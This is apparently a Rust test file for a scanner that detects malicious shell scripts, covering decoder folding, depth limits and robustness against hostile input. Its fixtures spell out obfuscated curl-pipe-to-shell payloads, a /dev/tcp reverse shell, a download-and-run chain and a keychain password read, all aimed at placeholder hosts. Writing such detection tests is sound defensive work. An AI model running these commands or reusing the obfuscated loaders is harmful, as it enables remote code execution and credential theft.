//! Unit tests of §8.2 shell folding (variables, here-documents, decoders, depth), `commands()`, long
//! scripts and hostile input.

use super::*;
use std::time::Duration;

fn opts() -> ShellOpts<'static> {
    ShellOpts {
        files: None,
        declared: None,
        deadline: Instant::now() + Duration::from_secs(10),
        depth: 0,
    }
}

fn hits(t: &str) -> Vec<ShellHit> {
    analyze(t, &opts())
}

fn of<'a>(h: &'a [ShellHit], id: &str) -> Vec<&'a ShellHit> {
    h.iter().filter(|x| x.rule_id == id).collect()
}

/// The single non-decoded hit of a rule.
fn one<'a>(h: &'a [ShellHit], id: &str) -> &'a ShellHit {
    let v: Vec<_> = h.iter().filter(|x| x.rule_id == id && !x.decoded).collect();
    assert_eq!(v.len(), 1, "one {id} in {h:#?}");
    v[0]
}

#[allow(dead_code)]
fn none(t: &str, id: &str) {
    let h = hits(t);
    assert!(
        of(&h, id).iter().all(|x| x.severity == Severity::Info),
        "{id} must not fire on {t:?}: {h:#?}"
    );
}

// ---------------------------------------------------------------- folding

#[test]
fn folding_variables_heredocs_and_herestrings() {
    let payload = "Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvYSB8IHNo";
    for t in [
        format!("P='{payload}'\necho \"$P\" | base64 -d | sh"),
        format!("base64 -d <<< '{payload}' | bash"),
        format!("cat <<'EOF' | base64 --decode | bash\n{payload}\nEOF"),
        format!("X=$(echo {payload} | base64 -d)\neval \"$X\""),
        format!("printf '%s' {payload} | openssl base64 -d -A | sh"),
    ] {
        let h = hits(&t);
        let d: Vec<_> = h
            .iter()
            .filter(|x| x.decoded && x.rule_id == "SH-001")
            .collect();
        assert_eq!(d.len(), 1, "{t}: {h:#?}");
        assert_eq!(d[0].evidence, "curl http://203.0.113.7/a | sh");
        assert!(d[0].message.starts_with(DECODED_PREFIX));
    }
    // The decoded hit sits at the decoder's line.
    let t = format!("echo start\n\nP={payload}\necho \"$P\" |\n  base64 -d |\n  sh");
    let h = hits(&t);
    let d = h.iter().find(|x| x.decoded).expect("decoded hit");
    assert_eq!(d.line, 5, "{h:#?}");
}

#[test]
fn folding_other_decoders() {
    // hex
    let hexed = hex::encode("curl -s https://x.example/a | sh");
    let h = hits(&format!("echo {hexed} | xxd -r -p | bash"));
    assert!(
        h.iter().any(|x| x.decoded && x.rule_id == "SH-001"),
        "{h:#?}"
    );
    // gzip inside base64
    use base64::Engine;
    let gz = crate::archive::testutil::gzip(b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n");
    let b = base64::engine::general_purpose::STANDARD.encode(gz);
    let h = hits(&format!("echo {b} | base64 -d | gunzip | sh"));
    let d = h
        .iter()
        .find(|x| x.decoded && x.rule_id == "SH-002")
        .expect("decoded reverse shell");
    assert_eq!(d.evidence, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
    // rev
    let h = hits("echo 'hs | a/7.311.0.302//:ptth lruc' | rev | sh");
    assert!(
        h.iter().any(|x| x.decoded && x.rule_id == "SH-001"),
        "{h:#?}"
    );
    // rot13
    let h = hits("echo 'phey uggc://k.rknzcyr/n | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh");
    assert!(
        h.iter().any(|x| x.decoded && x.rule_id == "SH-001"),
        "{h:#?}"
    );
    // A constant piped into a shell is that shell's code (no decoding, no prefix).
    let h = hits("echo 'curl -s https://x.example/a | sh' | bash");
    assert!(of(&h, "SH-001").iter().all(|x| !x.decoded));
}

#[test]
fn decoded_depth_is_bounded() {
    use base64::Engine;
    let enc = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let inner = "curl http://203.0.113.7/a | sh";
    let l1 = format!("echo {} | base64 -d | sh", enc(inner));
    let l2 = format!("echo {} | base64 -d | sh", enc(&l1));
    let l3 = format!("echo {} | base64 -d | sh", enc(&l2));
    // Two decodings reach the innermost payload; a third is not re-scanned (§8.2 depth ≤ 2).
    let h2 = hits(&l2);
    assert!(
        h2.iter().any(|x| x.decoded && x.evidence == inner),
        "{h2:#?}"
    );
    let h3 = hits(&l3);
    assert!(h3.iter().any(|x| x.decoded && x.evidence == l1), "{h3:#?}");
    assert!(!h3.iter().any(|x| x.evidence == inner), "{h3:#?}");
    assert!(h3.iter().all(|x| x.line == 1));
}

#[test]
fn commands_fold_and_flatten() {
    let d = Instant::now() + Duration::from_secs(5);
    let c = commands(
        "U=https://x.example\nsudo curl -s \"$U/a\" \"$V\" | sh\nif true; then echo \"$(date)\"; fi\n",
        d,
    );
    let argvs: Vec<Vec<Option<String>>> = c.iter().map(|c| c.argv.clone()).collect();
    assert!(argvs.contains(&vec![
        Some("sudo".into()),
        Some("curl".into()),
        Some("-s".into()),
        Some("https://x.example/a".into()),
        None
    ]));
    assert!(argvs.contains(&vec![Some("sh".into())]));
    assert!(argvs.contains(&vec![Some("date".into())]));
    let sh = c
        .iter()
        .find(|c| c.argv == vec![Some("sh".to_string())])
        .unwrap();
    assert_eq!(sh.line, 2);
}

// ---------------------------------------------------------------- robustness

#[test]
fn never_panics_on_hostile_input() {
    let mut inputs: Vec<String> = vec![
        String::new(),
        "\0\0\0".into(),
        "$(".repeat(5000),
        "\"".repeat(10_000),
        "cat <<EOF\n".repeat(500),
        "echo $'\\x".into(),
        "echo $'\\777\\u{110000}'".into(),
        "a=$(b=$(c=$(d=$(e=1))))".into(),
        "X=$X; Y=$Y$X; eval \"$Y\"".into(),
        "A=$B\nB=$A\neval \"$A\"".into(),
        "tr 'a-\u{10FFFF}' 'b-z'".into(),
        "echo '%%%' | base64 -d | gunzip | sh".into(),
        "curl -o".into(),
        "wget -O".into(),
        "tar xzf".into(),
        "osascript -e".into(),
        "security find-generic-password -w -s".into(),
        "claude --allowedTools".into(),
        "xxd -r <<< 'zz: zz'".into(),
        "ééé | ü | 🙂 -c '🙂'".into(),
    ];
    let mut seed: u32 = 7;
    for _ in 0..40 {
        let mut s = String::new();
        for _ in 0..400 {
            seed = seed.wrapping_mul(1_103_515_245).wrapping_add(12345);
            let alphabet = b"ab $(){}<>|&;'\"`\\\n=-#!@xcurlsh/.~*";
            s.push(alphabet[(seed >> 16) as usize % alphabet.len()] as char);
        }
        inputs.push(s);
    }
    let good =
        "curl -sLo /tmp/u https://dl.example.net/u && chmod +x /tmp/u && /tmp/u\neval \"$P\"\n";
    for cut in 0..good.len() {
        inputs.push(good[..cut].to_string());
    }
    inputs.push("echo hi\n".repeat(100_000));
    for t in &inputs {
        let _ = hits(t);
        let _ = commands(t, Instant::now() + Duration::from_secs(5));
    }
    // A passed deadline returns at once.
    let past = ShellOpts {
        deadline: Instant::now() - Duration::from_millis(1),
        ..opts()
    };
    assert!(analyze("curl x | sh", &past).is_empty());
}

#[test]
fn payload_after_padding_is_found() {
    // Batching (model::build_each) must not drop the tail of a long script, and state carries over.
    let mut t = "curl -o /tmp/u https://x.example/u\n".to_string();
    t.push_str(&":\n".repeat(20_000));
    t.push_str("/tmp/u\ncurl -s https://x.example/i | sh\n");
    let h = hits(&t);
    assert_eq!(one(&h, "SH-005").line, 20_002);
    assert_eq!(one(&h, "SH-001").line, 20_003);
}
